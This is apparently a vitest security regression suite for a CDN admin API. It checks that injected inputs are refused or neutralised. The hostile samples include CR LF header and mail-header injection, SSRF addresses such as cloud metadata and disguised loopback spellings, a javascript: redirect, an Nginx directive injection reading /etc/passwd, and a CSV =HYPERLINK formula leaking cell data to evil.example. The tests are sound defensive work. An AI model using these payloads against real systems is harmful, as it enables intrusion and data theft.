// Hostile input refused by the contract (issue 15, findings 2, 5 and 9; issue 24, items 6 to 8: the requests an
// attacker's probe used): each was accepted before; each is now a clean 4xx with a code and nothing is stored, or neutralised.
import { afterEach, describe, expect, it } from 'vitest';
import { isInternalTarget } from './domain/push-target.ts';
import { useTestBackend } from './test-backend.ts';
import { DEMO } from './testing.ts';

interface Failure {
  code: number;
  errorData?: { field: string }[];
}

const SITE = 4102;
const { t, tokens } = useTestBackend({ signIn: ['mei', 'northwind'], reset: 'once' });
afterEach(() => {
  delete process.env.PARAPET_PUSH_PRIVATE;
});

// The state as it is, serialised at once (not copied first: toData() clones the 3 MB of modules on every call).
const snapshot = () => {
  const data = t.backend.store.dataView();
  return JSON.stringify([data.resources, data.roles, data.apiTokens]);
};

/** Sends a request that must be refused with 101003 and must change nothing. */
async function refused(method: string, path: string, token: string, body: unknown, field?: string): Promise<void> {
  const before = snapshot();
  const answer = await t.call<Failure>(method, path, { token, body });
  expect(answer.status, `${method} ${path} ${JSON.stringify(body).slice(0, 80)}`).toBe(400);
  expect(answer.body.code).toBe(101003);
  if (field) expect(answer.body.errorData?.map((v) => v.field)).toContain(field);
  expect(snapshot()).toBe(before);
}

describe('header injection (finding 2)', () => {
  const module = (headers: { key: string; value: string }[]) => ({ name: 'hostile-headers', headers });

  it('refuses CR LF and NUL in a custom header value, and hop-by-hop or framing header names', async () => {
    const path = `/user/site/${SITE}/module/customHeader`;
    await refused('POST', path, tokens.mei, module([{ key: 'X-Shop', value: 'a\r\nSet-Cookie: pwned=1' }]), 'headers.0.value');
    await refused('POST', path, tokens.mei, module([{ key: 'X-Shop', value: 'a\u0000b' }]), 'headers.0.value');
    for (const key of ['Host', 'content-length', 'Transfer-Encoding', 'Connection', 'X Shop', 'X:Shop']) {
      await refused('POST', path, tokens.mei, module([{ key, value: 'x' }]), 'headers.0.key');
    }
    // A tab in a value and an ordinary security header are fine.
    const fine = await t.call('POST', path, { token: tokens.mei, body: module([{ key: 'Strict-Transport-Security', value: 'max-age=600;\tpreload' }]) });
    expect(fine.status).toBe(200);
  });

  it('refuses CR LF in log push header values and names, in both consoles', async () => {
    const user = { name: 'hostile-push', type: 'manual', logType: 'access', siteIDs: [SITE], url: 'https://logs.harbor-tea.example/in' };
    await refused('POST', '/user/logPush/events', tokens.mei, { ...user, headers: { 'X-Key': 'a\r\nb' } });
    await refused('POST', '/user/logPush/events', tokens.mei, { ...user, headers: { Host: 'evil.example' } });
    const client = { name: 'hostile-push', userID: 302, siteIDs: [SITE], logType: 'access', url: 'https://siem.harbor-tea.example/in' };
    await refused('POST', '/client/logPush/events', tokens.northwind, { ...client, headers: [{ key: 'X-Api-Key', value: 'a\r\nX-Other: 1' }] }, 'headers.0.value');
    await refused('POST', '/client/logPush/events', tokens.northwind, { ...client, headers: [{ key: 'Content-Length', value: '0' }] }, 'headers.0.key');
  });

  it('refuses push URLs inside the service network unless the operator allows it', async () => {
    const event = { name: 'inside', type: 'manual', logType: 'access', siteIDs: [SITE] };
    for (const url of ['http://127.0.0.1:8080/x', 'http://localhost/x', 'http://[::1]/x', 'http://10.0.0.5/x', 'http://169.254.169.254/latest', 'http://192.168.1.1/']) {
      await refused('POST', '/user/logPush/events', tokens.mei, { ...event, url }, 'url');
    }
    await refused('POST', '/user/logPush/events', tokens.mei, { ...event, url: 'ftp://logs.example/x' }, 'url');
    expect(isInternalTarget('https://logs.harbor-tea.example/in')).toBe(false);
    expect(isInternalTarget('http://172.31.0.1/')).toBe(true);
    expect(isInternalTarget('http://172.32.0.1/')).toBe(false);
    process.env.PARAPET_PUSH_PRIVATE = '1';
    try {
      const allowed = await t.call('POST', '/user/logPush/events', { token: tokens.mei, body: { ...event, name: 'on-premises', url: 'http://10.0.0.5/x' } });
      expect(allowed.status).toBe(200);
    } finally {
      delete process.env.PARAPET_PUSH_PRIVATE;
    }
  });
});

describe('blank names (finding 5)', () => {
  it('refuses a blank role name with a 4xx, stores nothing, and the role list keeps working', async () => {
    await refused('POST', '/user/role', tokens.mei, { name: '   ', metaRoleIDs: [3] }, 'name');
    await refused('POST', '/user/role', tokens.mei, { name: '\t', metaRoleIDs: [3] }, 'name');
    const list = await t.call('GET', '/user/roles', { token: tokens.mei });
    expect(list.status).toBe(200);
  });

  it('refuses blank API token and WAF module names', async () => {
    await refused('POST', '/apiToken', tokens.mei, { name: '  ', days: 1 }, 'name');
    await refused('POST', `/user/site/${SITE}/module/wafs`, tokens.mei, { name: '   ', ruleIDs: [942100], blockType: 'refuse' });
  });
});

describe('smaller bad input (finding 9)', () => {
  it('refuses a javascript: redirect target', async () => {
    const modules = await t.call<{ data: { id: number }[] }>('GET', `/user/site/${SITE}/module/urlRedirects`, { token: tokens.mei });
    const moduleId = modules.body.data[0]?.id ?? 1;
    await refused('POST', `/user/site/${SITE}/module/urlRedirect/${moduleId}/urls`, tokens.mei, { urls: [{ source: '/x', target: 'javascript:alert(1)', code: 301 }] }, 'urls.0.target');
    await refused('POST', `/user/site/${SITE}/module/urlRedirect/${moduleId}/urls`, tokens.mei, { urls: [{ source: '/x', target: 'data:text/html,hi', code: 301 }] }, 'urls.0.target');
  });

  it('refuses a number beyond its maximum (a cache rule priority of 1e30)', async () => {
    await refused('POST', `/user/site/${SITE}/cacheRule`, tokens.mei, { type: 'fileType', fileTypes: ['mp4'], cacheTime: 60, mode: 'followOrigin', priority: 1e30 }, 'priority');
  });

  it('refuses a password of eight spaces (spec 5: a value with a space is wrongFormat)', async () => {
    await refused('PATCH', '/user/password', tokens.mei, { oldPassword: DEMO.mei.password, password: '        ' }, 'password');
    await refused('PATCH', '/user/password', tokens.mei, { oldPassword: DEMO.mei.password, password: 'Harbor Tea 2027' }, 'password');
  });

  it('answers a 9 MiB body with 413 and a code, not a connection reset', async () => {
    const response = await fetch(`${t.origin}/api/v1/user/site/${SITE}/cacheRule`, {
      method: 'POST',
      headers: { authorization: `Bearer ${tokens.mei}`, 'content-type': 'application/json' },
      body: JSON.stringify({ memo: 'x'.repeat(9 * 1024 * 1024) }),
    });
    expect(response.status).toBe(413);
    expect(((await response.json()) as Failure).code).toBe(101003);
  });
});

// Issue 24: the requests an attacker's probe used, each now refused (101003) or neutralised.
// The probe's spellings of internal addresses (item 6).
const PROBE_HOSTS = ['[::ffff:127.0.0.1]', '[::ffff:169.254.169.254]', '[::127.0.0.1]', '[64:ff9b::a9fe:a9fe]', '[0:0:0:0:0:ffff:7f00:1]', 'LOCALHOST.'];

describe('item 6: one address check for every outbound target', () => {
  it('refuses every spelling of an internal address as a log push URL, in both consoles', async () => {
    const user = { name: 'probe', type: 'manual', logType: 'access', siteIDs: [SITE] };
    const client = { name: 'probe', userID: 302, siteIDs: [SITE], logType: 'access' };
    for (const host of PROBE_HOSTS) {
      await refused('POST', '/user/logPush/events', tokens.mei, { ...user, url: `http://${host}/latest/meta-data` }, 'url');
      await refused('POST', '/client/logPush/events', tokens.northwind, { ...client, url: `http://${host}:8080/in` }, 'url');
    }
  }, 60_000);

  it('refuses the same spellings as a client SMTP relay (save and test)', async () => {
    const setting = { enable: false, host: 'smtp.northwind-cdn.example', port: 587, security: 'starttls', username: '', from: 'notify@northwind-cdn.example', fromName: 'Northwind Edge' };
    for (const host of [...PROBE_HOSTS, '127.0.0.1', '::1', '0x7f.1', '10.0.0.5', 'relay.localhost']) {
      await refused('PUT', '/client/setting/email', tokens.northwind, { ...setting, host }, 'host');
      await refused('POST', '/client/setting/email/test', tokens.northwind, { to: 'ops@northwind-cdn.example', setting: { ...setting, host } }, 'setting.host');
    }
    const fine = await t.call('PUT', '/client/setting/email', { token: tokens.northwind, body: setting });
    expect(fine.status).toBe(200);
  }, 60_000);

  it('keeps the operator opt-in (PARAPET_PUSH_PRIVATE=1) for on-premises targets', async () => {
    process.env.PARAPET_PUSH_PRIVATE = '1';
    const allowed = await t.call('POST', '/user/logPush/events', {
      token: tokens.mei,
      body: { name: 'on-premises-v6', type: 'manual', logType: 'access', siteIDs: [SITE], url: 'http://[::ffff:10.0.0.5]/in' },
    });
    expect(allowed.status).toBe(200);
  });
});

describe('item 7: bounded work per request', () => {
  const day = (t0: number) => ({ startTime: new Date(t0 - 86_400_000).toISOString(), endTime: new Date(t0).toISOString() });

  it('refuses a log search naming the same sites again and again (the probe: 12 sites repeated to 5000 ids)', async () => {
    const sites = [4101, 4102, 4103, 4104, 4105, 4106, 4107, 4108, 4109, 4110, 4111, 4112];
    const repeated = Array.from({ length: 5000 }, (_, i) => sites[i % sites.length]!);
    await refused('POST', '/client/logs/access', tokens.northwind, { ...day(Date.now()), siteIDs: repeated, pageSize: 25 }, 'siteIDs');
    await refused('POST', '/client/logs/waf', tokens.northwind, { ...day(Date.now()), siteIDs: [4102, 4102], pageSize: 25 }, 'siteIDs');
    await refused('POST', '/user/logs/access', tokens.mei, { ...day(Date.now()), siteIDs: [4102, 4102] }, 'siteIDs');
    await refused('POST', '/client/statistics/timeSeries', tokens.northwind, { type: 2, ...day(Date.now()), siteIDs: [4102, 4102], minutesStep: 5 }, 'siteIDs');
  });

  it('refuses more than 5000 ids', async () => {
    const many = Array.from({ length: 5001 }, (_, i) => i + 1);
    await refused('POST', '/client/logs/access', tokens.northwind, { ...day(Date.now()), siteIDs: many }, 'siteIDs');
  });

  it('answers the public logo while a log search over every site of the client runs', async () => {
    // Six hours of every site: seconds of work on a quiet machine, far more than the 200 ms before the logo is asked for.
    const end = Date.now() - 3_600_000;
    const range = { startTime: new Date(end - 6 * 3_600_000).toISOString(), endTime: new Date(end).toISOString() };
    const heavy = t.call<{ total: number }>('POST', '/client/logs/access', { token: tokens.northwind, body: { ...range, pageSize: 25 } });
    let heavyDone = false;
    void heavy.then(() => (heavyDone = true));
    // Let the search start, then ask for the logo: it is answered while the search is still under way.
    await new Promise((resolve) => setTimeout(resolve, 200));
    const logo = await t.call('GET', '/user/logo');
    expect(logo.status).toBe(200);
    expect(heavyDone).toBe(false);
    const answer = await heavy;
    expect(answer.status).toBe(200);
    expect(answer.body.total).toBeGreaterThan(0);
  }, 120_000);
});

describe('item 8: values safe where they land', () => {
  it('writes a site named =HYPERLINK(...) as text in the domain ranking CSV', async () => {
    const site = t.backend.store.sites.find((s) => s.id === SITE)!;
    const name = site.name;
    site.name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    try {
      const response = await fetch(new URL('/api/v1/user/statistics/list/export', t.origin), {
        method: 'POST',
        headers: { authorization: `Bearer ${tokens.mei}`, 'content-type': 'application/json' },
        body: JSON.stringify({ startTime: new Date(Date.now() - 6 * 3_600_000).toISOString(), endTime: new Date().toISOString(), siteIDs: [SITE], top: 50 }),
      });
      expect(response.status).toBe(200);
      const csv = await response.text();
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
      expect(csv.split('\r\n').some((line) => line.split(',').some((cell) => /^"?=/.test(cell)))).toBe(false);
    } finally {
      site.name = name;
    }
  });

  it('refuses CR LF and other control characters in the mail sender name', async () => {
    const setting = { enable: false, host: 'smtp.northwind-cdn.example', port: 587, security: 'starttls', username: '', from: 'notify@northwind-cdn.example' };
    for (const fromName of ['Northwind\r\nBcc: everyone@example.com', 'Edge\nX-Spam: no', 'a\u0000b', 'tab\there']) {
      await refused('PUT', '/client/setting/email', tokens.northwind, { ...setting, fromName }, 'fromName');
      await refused('POST', '/client/setting/email/test', tokens.northwind, { to: 'ops@northwind-cdn.example', setting: { ...setting, fromName } }, 'setting.fromName');
    }
  });

  it('refuses Nginx path fields that would end the directive (system and zone)', async () => {
    const system = await t.call<{ data: Record<string, unknown> }>('GET', '/client/setting/nginx/http', { token: tokens.northwind });
    expect(system.status).toBe(200);
    for (const cacheDir of ['/cache; include /etc/passwd', '/cache}', '/a"b', '/a#b', '/a\nb', '/a b']) {
      await refused('PUT', '/client/setting/nginx/http', tokens.northwind, { ...system.body.data, cacheDir }, 'cacheDir');
    }
    const fine = await t.call('PUT', '/client/setting/nginx/http', { token: tokens.northwind, body: { ...system.body.data, cacheDir: '/var/cache/nginx' } });
    expect(fine.status).toBe(200);
  });
});
